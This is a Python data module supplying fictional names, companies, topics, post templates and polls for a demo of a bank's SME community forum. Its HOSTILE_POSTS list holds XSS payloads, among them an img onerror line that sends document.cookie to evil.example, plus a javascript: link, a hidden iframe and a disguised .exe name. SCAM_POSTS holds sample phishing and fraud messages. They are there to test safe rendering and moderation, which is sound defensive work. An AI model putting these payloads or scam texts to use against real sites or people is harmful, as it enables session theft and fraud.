"""Word lists for the demo generator: names, companies, topics and sentence templates.

Plain data only (no randomness here); :mod:`studio.demo.generator` combines them. Content is in
French and English, with some Traditional Chinese (Hong Kong) names and posts, about the matters a
bank's SME community talks about. Company names, people and domains are fictional; hostile
content uses reserved ``example`` domains.
"""

from __future__ import annotations

BANK = "Banque Horizon"

# -- people --------------------------------------------------------------------------------------

FR_FIRST = (
    "Camille", "Léa", "Chloé", "Manon", "Inès", "Jade", "Louise", "Zoé", "Emma", "Sarah",
    "Claire", "Anne", "Isabelle", "Nathalie", "Sophie", "Élodie", "Hélène", "Margaux", "Agathe",
    "Océane", "Noémie", "Maëlle", "Lucas", "Hugo", "Louis", "Gabriel", "Arthur", "Jules",
    "Thomas", "Nicolas", "Julien", "Mathieu", "Antoine", "Pierre", "Jean-François",
    "Jean-Baptiste", "François", "Stéphane", "Éric", "Olivier", "Benoît", "Cédric", "Jérôme",
    "Rémi", "Loïc", "Gaëtan", "Yannick", "Karim", "Mehdi", "Youssef", "Amina", "Fatou",
    "Moussa", "Aïcha", "Nadia", "Samir", "Quentin", "Baptiste", "Théo", "Maxime", "Romain",
    "Clément", "Bastien", "Solène", "Laëtitia", "Gwenaëlle", "Ségolène", "Marie-Hélène",
    "Anne-Sophie", "Thi Mai",
)  # fmt: skip

FR_LAST = (
    "Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand", "Leroy",
    "Moreau", "Simon", "Laurent", "Lefèvre", "Michel", "Garcia", "David", "Bertrand", "Roux",
    "Vincent", "Fournier", "Morel", "Girard", "André", "Mercier", "Dupont", "Lambert",
    "Bonnet", "François", "Martinez", "Legrand", "Garnier", "Faure", "Rousseau", "Blanc",
    "Guérin", "Muller", "Henry", "Roussel", "Perrin", "Morin", "Gauthier", "Dumont", "Lopez",
    "Fontaine", "Chevalier", "Robin", "Le Gall", "Le Goff", "de La Fontaine", "d'Almeida",
    "N'Diaye", "Benali", "Haddad", "Nguyen", "Tran", "Pham", "Ferreira", "Da Silva",
    "Kowalski", "Le Bihan", "Ollivier", "Bénard", "Cohen", "Giraud-Lefebvre",
)  # fmt: skip

EN_FIRST = (
    "Oliver", "George", "Harry", "Jack", "Jacob", "Charlie", "Thomas", "James", "William",
    "Emily", "Olivia", "Amelia", "Isla", "Ava", "Jessica", "Sophie", "Grace", "Lily", "Priya",
    "Rahul", "Aisha", "Mohammed", "Sean", "Siobhán", "Niamh", "Ciarán", "Rhys", "Ffion",
    "Chloe", "Hannah", "Michael", "David", "Sarah", "Laura", "Rachel", "Daniel", "Matthew",
    "Andrew", "Robert", "Jennifer", "Linda", "Patricia", "Carlos", "María", "Wei", "Kenji",
    "Yuki", "Anil", "Deepa", "Tunde", "Chidi", "Ngozi",
)  # fmt: skip

EN_LAST = (
    "Smith", "Jones", "Taylor", "Brown", "Williams", "Wilson", "Johnson", "Davies", "Robinson",
    "Wright", "Thompson", "Evans", "Walker", "White", "Roberts", "Green", "Hall", "Wood",
    "Jackson", "Clarke", "Patel", "Khan", "Singh", "O'Brien", "O'Connor", "McDonald",
    "MacLeod", "Murphy", "Kelly", "Hughes", "Edwards", "Lewis", "Harris", "Cooper", "King",
    "Lee", "Baker", "Turner", "Hill", "Scott", "Adams", "Campbell", "Anderson", "Mitchell",
    "Okafor", "Adeyemi", "Nakamura", "Fernández", "García-Márquez", "van der Berg",
    "Smith-Johnson",
)  # fmt: skip

#: Hong Kong surnames: (characters, Cantonese romanisation).
ZH_LAST = (
    ("陳", "Chan"), ("李", "Lee"), ("張", "Cheung"), ("黃", "Wong"), ("何", "Ho"), ("林", "Lam"),
    ("梁", "Leung"), ("劉", "Lau"), ("吳", "Ng"), ("鄭", "Cheng"), ("麥", "Mak"), ("郭", "Kwok"),
    ("周", "Chow"), ("楊", "Yeung"), ("馮", "Fung"), ("蔡", "Choi"), ("譚", "Tam"),
    ("曾", "Tsang"), ("葉", "Yip"), ("盧", "Lo"),
)  # fmt: skip

#: Hong Kong given names: (characters, romanisation).
ZH_FIRST = (
    ("大文", "Tai Man"), ("美玲", "Mei Ling"), ("嘉欣", "Ka Yan"), ("志明", "Chi Ming"),
    ("家豪", "Ka Ho"), ("詠詩", "Wing Sze"), ("子健", "Tsz Kin"), ("偉強", "Wai Keung"),
    ("淑儀", "Suk Yee"), ("俊傑", "Chun Kit"), ("曉彤", "Hiu Tung"), ("浩然", "Ho Yin"),
    ("雅婷", "Nga Ting"), ("國榮", "Kwok Wing"), ("秀英", "Sau Ying"), ("文傑", "Man Kit"),
)  # fmt: skip

ZH_WESTERN = (
    "Peter", "Mary", "Kelvin", "Winnie", "Ivan", "Carmen", "Ken", "Gigi", "Eric", "Vivian",
    "Alvin", "Karen", "Raymond", "Cherry",
)  # fmt: skip

#: Members the generator always includes, whatever the scale: the names real data throws at a UI.
SPECIAL_MEMBERS = (
    ("陳大文", "大文貿易有限公司", "zh-HK", "chan.taiman"),
    ("Jean-François de La Fontaine-Beaumarchais d'Harcourt-Villeneuve", "Domaine de La Fontaine"
     " — Vins & Spiritueux d'Exception pour l'Export (SAS au capital de 1 250 000 €)", "fr",
     "jf.delafontaine"),
    ("Zoë ☕ Lefèvre", "Café Zoë 🥐", "fr", "zoe.lefevre"),
    ("Siobhán O'Connor-Ní Bhriain", "O'Connor & Daughters Ltd", "en", "siobhan.oconnor"),
    ("Peter Chan 陳志明", "Pearl River Trading (Hong Kong) Limited", "en", "peter.chan"),
    ("Ngozi Okafor-Adeyemi", "", "en", "ngozi.okafor"),
    ("👩‍💼 Léa M.", "Léa M. Conseil", "fr", "lea.m"),
    ("<b>Kévin</b> Durand", "Durand & Fils <SARL>", "fr", "kevin.durand"),
)  # fmt: skip

# -- companies -----------------------------------------------------------------------------------

BRAND_WORDS = (
    "Horizon", "Alpine", "Atlas", "Boréal", "Cobalt", "Delta", "Étoile", "Faubourg", "Granit",
    "Hélios", "Iris", "Jasmin", "Lumière", "Mistral", "Nova", "Orion", "Pixel", "Quartz",
    "Riviera", "Sirocco", "Terra", "Vega", "Zéphyr", "Blue Harbour", "Greenfield", "Northstar",
    "Silverline", "Bright Path", "Redwood", "Lotus", "Jade", "Pearl River", "Kowloon", "Azur",
    "Céleste", "Opale", "Basalte", "Cyprès", "Bruyère",
)  # fmt: skip

FR_COMPANY = (
    "{last} & Fils", "Atelier {last}", "{last} Logistique", "Boulangerie {last}",
    "{brand} Conseil SARL", "SAS {brand}", "{brand} Industries", "Transports {last}",
    "Cabinet {last} — Expertise comptable", "{brand}Tech", "Domaine {last}",
    "Menuiserie {last}", "Brasserie {brand}", "{brand} Cosmétiques", "Garage {last}",
    "{last} Immobilier", "{brand} Textile", "Laboratoires {brand}", "{brand} Énergies",
)  # fmt: skip

EN_COMPANY = (
    "{last} & Sons Ltd", "{brand} Logistics Ltd", "{brand} Digital LLP", "{last} Engineering",
    "{brand} Foods Limited", "{last} Consulting", "{brand} Analytics", "{last} Architects",
    "{brand} Biotech Inc.", "{last} & Partners",
)  # fmt: skip

ZH_COMPANY = (
    "{brand} Trading Co. Ltd", "{brand} (Hong Kong) Limited", "{zh}記貿易有限公司",
    "{zh}氏實業有限公司", "{brand} Asia Pacific Ltd", "{zh}記茶餐廳",
)  # fmt: skip

EMAIL_DOMAINS = (
    "example.com", "example.fr", "example.co.uk", "example.hk", "mail.example.net",
)  # fmt: skip

# -- topics --------------------------------------------------------------------------------------

#: (key, French label, English label, French objects, English objects)
TOPICS: tuple[tuple[str, str, str, tuple[str, ...], tuple[str, ...]], ...] = (
    (
        "tresorerie", "trésorerie", "cash management",
        ("un prévisionnel de trésorerie sur 13 semaines", "la centralisation de trésorerie",
         "un outil de rapprochement bancaire", "le placement des excédents de trésorerie",
         "l'affacturage inversé", "la réduction du BFR", "les délais de paiement clients"),
        ("a 13-week cash flow forecast", "cash pooling", "automated bank reconciliation",
         "investing surplus cash", "supply chain finance", "working capital reduction",
         "customer payment terms"),
    ),
    (
        "export", "export", "export",
        ("l'assurance prospection", "le crédit documentaire", "les Incoterms 2020",
         "un VIE pour notre premier bureau à l'étranger", "la couverture de change à terme",
         "les formalités douanières post-Brexit", "la garantie de change export"),
        ("export credit insurance", "letters of credit", "Incoterms 2020",
         "opening a first overseas office", "forward FX hedging",
         "post-Brexit customs paperwork", "trade finance in the Greater Bay Area"),
    ),
    (
        "cybersecurite", "cybersécurité", "cybersecurity",
        ("l'authentification à deux facteurs", "une sauvegarde hors ligne",
         "une formation anti-hameçonnage", "un audit de sécurité",
         "la procédure de contre-appel pour les changements de RIB", "la fraude au président",
         "une assurance cyber"),
        ("two-factor authentication", "offline backups", "phishing awareness training",
         "a security audit", "call-back checks on changed bank details", "CEO fraud",
         "cyber insurance"),
    ),
    (
        "financement", "financement", "financing",
        ("un prêt garanti", "le crédit-bail pour nos machines", "un prêt participatif",
         "une ligne de crédit renouvelable", "le financement de notre BFR",
         "l'affacturage", "un prêt d'amorçage"),
        ("a government-backed loan", "equipment leasing", "a revolving credit facility",
         "invoice finance", "working capital finance", "asset-based lending",
         "a start-up loan"),
    ),
    (
        "recrutement", "recrutement", "hiring",
        ("l'alternance", "le recrutement d'un commercial export", "la marque employeur",
         "l'intéressement", "l'intégration des nouveaux salariés", "le télétravail",
         "la fidélisation des talents"),
        ("apprenticeships", "hiring an export sales lead", "employer branding",
         "profit-sharing schemes", "onboarding new staff", "hybrid working",
         "keeping good people"),
    ),
    (
        "facturation", "facturation électronique", "e-invoicing",
        ("la facturation électronique obligatoire", "le choix d'une plateforme agréée",
         "le format Factur-X", "la réforme de septembre 2026", "l'e-reporting"),
        ("mandatory e-invoicing", "choosing an e-invoicing platform", "the Factur-X format",
         "the 2026 French e-invoicing reform", "real-time VAT reporting"),
    ),
    (
        "rse", "transition écologique", "sustainability",
        ("notre bilan carbone", "le reporting CSRD", "un prêt vert",
         "la rénovation énergétique de l'entrepôt", "les panneaux solaires sur le toit"),
        ("our carbon footprint", "CSRD reporting", "a green loan",
         "retrofitting the warehouse", "rooftop solar panels"),
    ),
    (
        "transmission", "transmission d'entreprise", "business succession",
        ("la transmission à nos enfants", "un LBO", "la valorisation de l'entreprise",
         "un pacte Dutreil", "la reprise par les salariés"),
        ("passing the business to the next generation", "a management buy-out",
         "valuing the business", "an employee ownership trust", "selling to a competitor"),
    ),
    (
        "paiements", "paiements", "payments",
        ("le virement instantané", "le paiement par QR code", "les terminaux de paiement",
         "les frais de commission", "le prélèvement SEPA"),
        ("instant payments", "QR code payments", "card terminals", "card processing fees",
         "direct debits"),
    ),
    (
        "ia", "intelligence artificielle", "AI",
        ("l'IA générative pour le service client", "un assistant pour rédiger les devis",
         "l'automatisation de la saisie comptable", "la détection de fraude par IA"),
        ("generative AI for customer service", "an assistant for drafting quotes",
         "automated bookkeeping", "AI fraud detection"),
    ),
    (
        "change", "change", "foreign exchange",
        ("la couverture du risque de change", "un compte en devises", "les options de change",
         "la facturation en dollars"),
        ("hedging currency risk", "a multi-currency account", "FX options",
         "invoicing in US dollars"),
    ),
    (
        "immobilier", "immobilier d'entreprise", "commercial property",
        ("l'achat de nos locaux", "une SCI pour les murs", "le bail commercial",
         "un entrepôt en zone logistique"),
        ("buying our premises", "a property holding company", "a commercial lease",
         "a warehouse near the port"),
    ),
)  # fmt: skip

TAGS = (
    *(topic[0] for topic in TOPICS),
    "pme", "sme", "guide", "réglementation", "regulation", "témoignage", "case-study", "2027",
)  # fmt: skip

COUNTRIES_FR = (
    "l'Allemagne", "le Canada", "Hong Kong", "le Japon", "les États-Unis", "le Maroc",
    "l'Italie", "Singapour", "le Royaume-Uni", "la Chine continentale", "la Suisse",
)  # fmt: skip
COUNTRIES_EN = (
    "Germany", "Canada", "Hong Kong", "Japan", "the US", "Morocco", "Italy", "Singapore",
    "France", "mainland China", "Switzerland",
)  # fmt: skip

# -- sentences -----------------------------------------------------------------------------------

FR_SUBJECTS = (
    "Notre PME", "Mon associé", "Notre expert-comptable", "L'équipe finance", "Notre banquier",
    "Le directeur commercial", "Un de nos clients", "Notre fournisseur principal",
    "La direction", "Notre DAF", "Ma conseillère", "L'équipe export",
)  # fmt: skip
EN_SUBJECTS = (
    "Our company", "My business partner", "Our accountant", "The finance team",
    "Our relationship manager", "Our sales director", "One of our customers",
    "Our main supplier", "The board", "Our CFO", "My adviser", "The export team",
)  # fmt: skip

FR_OUTCOMES = (
    "les résultats sont encourageants", "ça a changé notre quotidien",
    "nous avons réduit nos délais de paiement", "le BFR s'est nettement amélioré",
    "ce n'était pas simple au début", "nous avons dû tout revoir", "l'équipe est ravie",
    "les coûts ont baissé de 15 %", "il a fallu former tout le monde",
    "nos clients ont suivi sans problème", "on regrette de ne pas l'avoir fait plus tôt",
)  # fmt: skip
EN_OUTCOMES = (
    "the results are encouraging", "it changed how we work day to day",
    "we cut our payment times", "working capital improved a lot",
    "it was not easy at first", "we had to rethink everything", "the team loves it",
    "costs went down by 15%", "everyone needed training", "our customers followed without fuss",
    "we wish we had done it sooner",
)  # fmt: skip

FR_DIFFICULTIES = (
    "l'adhésion des équipes", "le choix du bon prestataire", "la collecte des documents",
    "le paramétrage de l'ERP", "la gestion du change", "les délais administratifs",
)  # fmt: skip
EN_DIFFICULTIES = (
    "getting the team on board", "finding the right provider", "getting documents in time",
    "configuring the ERP", "managing FX", "the paperwork delays",
)  # fmt: skip

FR_RISKS = (
    "la fraude au faux fournisseur", "les faux RIB envoyés par e-mail",
    "les variations du taux de change", "les retards de paiement clients",
    "les clauses de pénalité", "les tentatives d'hameçonnage",
)  # fmt: skip
EN_RISKS = (
    "fake supplier fraud", "spoofed bank details sent by email", "exchange rate swings",
    "late-paying customers", "penalty clauses", "phishing attempts",
)  # fmt: skip

#: Post sentence templates. Slots: subj, obj, outcome, difficulty, risk, country, n, size.
FR_POST_TEMPLATES = (
    "{subj} a mis en place {obj} il y a {n} mois, et {outcome}.",
    "Quelqu'un a-t-il déjà travaillé sur {obj} ?",
    "Nous cherchons des retours sur {obj}, surtout pour une entreprise de {size} salariés.",
    "Pour {obj}, le plus dur a été {difficulty}.",
    "Je recommande vivement de regarder {obj} avant la fin de l'année.",
    "Le webinaire sur {obj} était très clair, merci à l'équipe.",
    "Chez nous, {obj} nous a fait gagner {n} heures par mois.",
    "Attention à {risk}, nous nous sommes fait avoir l'an dernier.",
    "Quel délai avez-vous obtenu pour {obj} ?",
    "Bonne question ! De notre côté, {outcome}.",
    "{subj} conseille de commencer par {obj}.",
    "Nous exportons vers {country} depuis {n} ans et {outcome}.",
    "Est-ce que {obj} vaut le coup pour une structure de {size} personnes ?",
    "Petit retour d'expérience sur {obj} : {outcome}.",
    "Je confirme : {risk}, c'est un vrai sujet en ce moment.",
)  # fmt: skip
EN_POST_TEMPLATES = (
    "{subj} set up {obj} {n} months ago and {outcome}.",
    "Has anyone here worked on {obj}?",
    "We're looking for feedback on {obj}, especially for a {size}-person business.",
    "With {obj}, the hardest part was {difficulty}.",
    "I'd strongly recommend looking at {obj} before year end.",
    "The webinar on {obj} was really clear, thanks to the team.",
    "For us, {obj} saves about {n} hours a month.",
    "Watch out for {risk}, we got caught last year.",
    "How long did it take you to get {obj} in place?",
    "Good question! On our side, {outcome}.",
    "{subj} suggests starting with {obj}.",
    "We've been exporting to {country} for {n} years and {outcome}.",
    "Is {obj} worth it for a {size}-person company?",
    "Quick feedback on {obj}: {outcome}.",
    "Agreed: {risk}, that's a real issue right now.",
)  # fmt: skip

FR_SHORT_REPLIES = (
    "Merci pour le partage !", "+1, même question de notre côté.",
    "Je vous envoie un message privé.", "Très utile, merci.", "Pareil chez nous.",
    "Bonne idée 👍", "Merci 🙏", "Intéressant, je note.", "Quelqu'un a un contact ?",
    "Je plussoie.", "Idem, on attend aussi la réponse de la banque.",
)  # fmt: skip
EN_SHORT_REPLIES = (
    "Thanks for sharing!", "+1, same question here.", "I'll DM you.", "Very useful, thanks.",
    "Same for us.", "Great idea 👍", "Thank you 🙏", "Interesting, noted.",
    "Does anyone have a contact?", "Seconded.", "Following this thread 👀",
)  # fmt: skip

ZH_SENTENCES = (
    "請問有沒有人用過貿易融資？", "我們公司在大灣區有業務，想了解跨境付款。", "多謝分享！",
    "網絡安全真的很重要，上個月我們收到釣魚電郵。", "出口到法國需要什麼文件？",
    "我們正在考慮用電子發票，有沒有推薦的平台？", "現金流預測對中小企很有幫助。",
    "有沒有人參加過上次的網上研討會？", "匯率波動對我們的利潤影響很大。", "同意 👍",
)  # fmt: skip

FR_OPENERS = ("Bonjour à tous,", "Bonjour,", "Hello,", "Bonsoir,", "Bonjour à la communauté,")
EN_OPENERS = ("Hi all,", "Hello everyone,", "Hi,", "Morning all,", "Hi folks,")
FR_CLOSERS = (
    "Merci d'avance !", "Bonne journée.", "Au plaisir d'échanger.", "Merci pour vos retours 🙏",
    "Cordialement.",
)  # fmt: skip
EN_CLOSERS = ("Thanks in advance!", "Cheers.", "Best.", "Any advice welcome 🙂", "Thanks!")

FR_THREAD_TITLES = (
    "Question sur {obj}", "Retour d'expérience : {obj}", "{label_cap} : vos conseils ?",
    "Qui a déjà testé {obj} ?", "Besoin d'aide pour {obj}", "{label_cap} — on en parle ?",
    "Urgent : {risk}", "Vos avis sur {obj}",
)  # fmt: skip
EN_THREAD_TITLES = (
    "Question about {obj}", "Lessons learnt: {obj}", "{label_cap}: any tips?",
    "Who has tried {obj}?", "Help needed with {obj}", "Let's talk {label}",
    "Heads-up: {risk}", "Your views on {obj}",
)  # fmt: skip

LINKS = (
    ("le guide de l'ANSSI", "https://cyber.gouv.fr/"),
    ("la page Bpifrance", "https://www.bpifrance.fr/"),
    ("service-public.fr", "https://entreprendre.service-public.fr/"),
    ("the GOV.UK guidance", "https://www.gov.uk/browse/business"),
    ("HKTDC", "https://www.hktdc.com/"),
    ("impots.gouv.fr", "https://www.impots.gouv.fr/professionnel"),
)  # fmt: skip

EMOJI = ("🚀", "🌍", "🔒", "💶", "📈", "🎉", "☕", "🇫🇷", "🇭🇰", "👩‍💼", "🙏", "✅", "⚠️", "💡")

# -- articles ------------------------------------------------------------------------------------

FR_ARTICLE_TITLES = (
    "{label_cap} : {n} conseils pour les PME", "Comment réussir {obj}",
    "{obj_cap} : ce qui change en 2027", "Le guide pratique de {obj}",
    "Entretien : {name} sur {obj}", "Ce que les dirigeants doivent savoir sur {obj}",
    "{obj_cap}, mode d'emploi", "Dossier {label} : {obj}",
)  # fmt: skip
EN_ARTICLE_TITLES = (
    "{label_cap}: {n} tips for SMEs", "How to get {obj} right",
    "What business owners need to know about {obj}", "A practical guide to {obj}",
    "Interview: {name} on {obj}", "{obj_cap}, explained", "{label_cap} special: {obj}",
)  # fmt: skip

LONG_TITLE_TAIL_FR = (
    " — et pourquoi votre expert-comptable, votre banquier, vos salariés et même vos clients "
    "les plus fidèles devraient en parler avec vous dès maintenant, bien avant la clôture de "
    "l'exercice, pendant qu'il est encore temps d'agir sans précipitation ni mauvaise surprise"
)
LONG_TITLE_TAIL_EN = (
    " — and why your accountant, your bank, your staff and even your most loyal customers "
    "should be talking to you about it right now, well before year end, while there is still "
    "time to act calmly and without any unpleasant surprises along the way"
)

FR_ARTICLE_SENTENCES = (
    "Pour une PME, {obj} représente souvent un levier sous-estimé.",
    "Selon notre enquête auprès de {n} dirigeants, {pct} % jugent {obj} prioritaire.",
    "Concrètement, il s'agit d'anticiper plutôt que de subir {risk}.",
    "Les entreprises qui ont adopté {obj} constatent que {outcome}.",
    "La première étape consiste à faire le point avec votre conseiller.",
    "Le calendrier réglementaire impose de s'y prendre au moins {n} mois à l'avance.",
    "{subj} joue ici un rôle clé, notamment pour {obj}.",
    "Attention toutefois : la principale source de difficultés reste {risk}.",
    "Il n'existe pas de solution unique, mais quelques principes simples s'appliquent.",
    "Un dirigeant nous confie que le plus difficile a été {difficulty}.",
)  # fmt: skip
EN_ARTICLE_SENTENCES = (
    "For a small business, {obj} is often an underrated lever.",
    "In our survey of {n} business owners, {pct}% said {obj} was a priority.",
    "In practice, it is about getting ahead of {risk} rather than suffering it.",
    "Companies that adopted {obj} report that {outcome}.",
    "The first step is to review your position with your adviser.",
    "Regulation means you should start at least {n} months ahead.",
    "{subj} plays a key role here, especially for {obj}.",
    "Be careful, though: the main source of trouble is still {risk}.",
    "There is no one-size-fits-all answer, but a few simple principles apply.",
    "One owner told us the hardest part was {difficulty}.",
)  # fmt: skip

FR_HEADINGS = (
    "Pourquoi c'est important", "Les points clés", "Comment s'y prendre",
    "Les erreurs à éviter", "Témoignage", "En pratique", "Pour aller plus loin", "Calendrier",
)  # fmt: skip
EN_HEADINGS = (
    "Why it matters", "Key points", "How to get started", "Common pitfalls", "Case study",
    "In practice", "Further reading", "Timeline",
)  # fmt: skip

# -- webinars ------------------------------------------------------------------------------------

FR_WEBINAR_TITLES = (
    "Webinaire — {obj_cap}", "Matinale {label} : {obj}", "Questions-réponses : {obj}",
    "Club export : cap sur {country}", "Cyber-café : {obj}", "Atelier pratique : {obj}",
)  # fmt: skip
EN_WEBINAR_TITLES = (
    "Webinar — {obj_cap}", "{label_cap} breakfast: {obj}", "Live Q&A: {obj}",
    "Export Club: focus on {country}", "Masterclass: {obj}", "Hands-on workshop: {obj}",
)  # fmt: skip

SPEAKER_ORGS = (
    "Cabinet Lumière Avocats", "Kowloon Trade Advisory", "Northstar Cyber Ltd",
    "Atelier Conseil Export", "Université Jean-Moulin", "Chambre de commerce franco-asiatique",
    "Fiduciaire Mistral", "Greenfield Impact Partners", "Pearl River Logistics",
    "Institut de la PME", "London Small Business Forum", "Manhattan Growth Capital",
)  # fmt: skip

#: Zones of guest speakers (and of the webinars they give), most frequent first.
SPEAKER_ZONES = (
    "Europe/Paris", "Europe/Paris", "Europe/Paris", "Europe/London", "Europe/London",
    "America/New_York", "America/New_York", "Asia/Hong_Kong", "Asia/Hong_Kong",
    "Asia/Singapore", "America/Toronto", "Africa/Casablanca", "Australia/Sydney",
    "Asia/Tokyo", "Europe/Berlin",
)  # fmt: skip

# -- moderation ----------------------------------------------------------------------------------

REPORT_REASONS = (
    "spam", "spam", "scam", "scam", "harassment", "off_topic", "off_topic",
    "confidential_information", "misinformation", "impersonation", "other",
)  # fmt: skip

REPORT_NOTES = (
    "", "", "", "Lien suspect", "Ce membre publie la même offre partout",
    "Looks like phishing to me", "Insultant envers un autre membre",
    "Donne le nom d'un client et ses impayés", "Same message in five threads",
    "Se fait passer pour un conseiller de la banque", "Off topic, pure advertising",
)  # fmt: skip

REMOVAL_REASONS = (
    "Spam or advertising", "Suspected scam", "Personal or confidential data",
    "Abusive language", "Off topic", "Publicité non sollicitée", "Tentative d'hameçonnage",
    "Impersonation of bank staff",
)  # fmt: skip

DECISION_NOTES = (
    "", "", "", "Second warning", "Escalated to compliance", "Vérifié avec la conformité",
    "Member contacted by phone", "Duplicate of an earlier removal",
)  # fmt: skip

MODERATORS = ("a.moreau", "j.chan", "s.taylor", "m.leroy", "compliance.desk")

#: Spam and scam posts: the lexicon and the reports should catch these.
SCAM_POSTS = (
    "Investissez dans notre fonds crypto, rendement garanti de 15 % par mois ! "
    "Contactez-moi sur WhatsApp +33 6 00 00 00 00",
    "Guaranteed returns, totally risk-free! DM me for the insider tip 💰💰💰",
    "Envoyez-moi votre IBAN et le code reçu par SMS pour débloquer votre prêt sous 24 h.",
    "Cheap loans, no credit check!!! www.fast-cash-loans.example",
    "Bonjour, je suis conseiller chez " + BANK + ", merci de confirmer vos identifiants ici : "
    "https://banque-horizon-verification.example/login",
    "URGENT : changement de RIB de notre société, merci de régler les factures sur le "
    "nouveau compte ci-joint.",
)  # fmt: skip

#: Posts every demo holds, spread through the stream: content a UI must show safely.
HOSTILE_POSTS = (
    "Regardez ça <script>alert('pwned')</script> c'est incroyable",
    '<img src="https://tracker.example.net/p.gif?id=42" '
    "onerror=\"fetch('https://evil.example/steal?c='+document.cookie)\">Bonne journée !",
    "![promo](https://images.example.org/huge-banner.png) Offre limitée, cliquez vite !",
    "[Cliquez ici pour vérifier votre compte](javascript:alert(document.domain))",
    '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>Bonjour à tous',
    '<a href="https://bank-login.example.com/verify" style="position:fixed;top:0;left:0;'
    'width:100%;height:100%">Se connecter</a>',
    "Votre facture est prête : facture\u202efdp.exe",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "<b>gras</b> &amp; <i>italique</i> &lt;script&gt; — et un lien https://example.com/"
    + "x" * 400,
    "Pay\u200bPal a bloqué mon compte, contactez le support au "
    "<a href='tel:+33000000000'>+33 0 00 00 00 00</a>",
)  # fmt: skip

#: Rich but legitimate Markdown posts.
MARKDOWN_POSTS = (
    "## Notre check-list trésorerie\n\n1. Prévisionnel **13 semaines**\n2. Relances clients "
    "à J+5\n3. Revue mensuelle avec la banque\n\n> Le cash est roi.\n\nPlus d'infos sur "
    "[la page Bpifrance](https://www.bpifrance.fr/).",
    "| Devise | Couverture | Horizon |\n| --- | --- | --- |\n| USD | 60 % | 6 mois |\n"
    "| HKD | 40 % | 3 mois |\n\nVous faites comment, vous ?",
    "Our export checklist:\n\n- [x] Incoterms agreed\n- [x] LC confirmed\n- [ ] Insurance\n\n"
    "```\nPayment terms: 30% upfront, 70% against documents\n```",
    "*Retour du salon* : très bonne ambiance 🎉\n\n---\n\n**Prochaine étape** : "
    "`relancer les 40 contacts` avant vendredi.",
)  # fmt: skip

EMOJI_POSTS = ("🎉🎉🎉👏👏", "Merci 🙏🇫🇷🇭🇰", "👍", "Bravo à toute l'équipe 👩‍💼👨‍💼🚀")

# -- polls ---------------------------------------------------------------------------------------

POLLS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("Quel est votre principal défi de trésorerie pour 2027 ?",
     ("Les retards de paiement", "Le financement du BFR", "La hausse des taux",
      "La saisonnalité", "Autre")),
    ("Where do you plan to export next year?",
     ("Europe", "North America", "Asia-Pacific", "Africa", "We don't export")),
    ("Avez-vous activé l'authentification à deux facteurs partout ?",
     ("Oui, partout", "En partie", "Non, pas encore")),
    ("How ready are you for mandatory e-invoicing?",
     ("Ready", "Working on it", "Just started", "What is e-invoicing?")),
    ("Quel format de webinaire préférez-vous ?",
     ("30 minutes le matin ☕", "1 heure à midi", "Fin de journée", "En replay uniquement")),
    ("Do you use AI tools in your business today?",
     ("Every day", "Sometimes", "We are testing", "No")),
    ("Combien de recrutements prévoyez-vous en 2027 ?",
     ("Aucun", "1 à 2", "3 à 5", "Plus de 5")),
    ("Which topic should our next article cover?",
     ("Cash management", "Cybersecurity", "Export finance", "Sustainability reporting",
      "Succession planning", "Something else — tell us in the comments, we read everything "
      "and really do use your suggestions to plan the editorial calendar 🙂")),
    ("Avez-vous déjà été victime d'une tentative de fraude au faux RIB ?",
     ("Oui, et nous avons payé", "Oui, détectée à temps", "Non", "Je ne sais pas")),
    ("大灣區業務：您最關心哪方面？",
     ("跨境付款", "貿易融資", "人才招聘", "其他")),
)  # fmt: skip
